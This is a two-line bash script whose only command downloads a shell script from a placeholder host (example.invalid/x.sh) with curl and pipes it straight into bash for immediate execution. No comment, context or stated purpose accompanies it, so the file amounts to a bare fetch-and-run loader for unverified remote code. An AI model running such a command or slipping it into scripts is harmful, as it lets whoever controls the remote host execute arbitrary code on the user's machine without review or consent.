#!/bin/bash
bash <(curl -s http://example.invalid/x.sh)
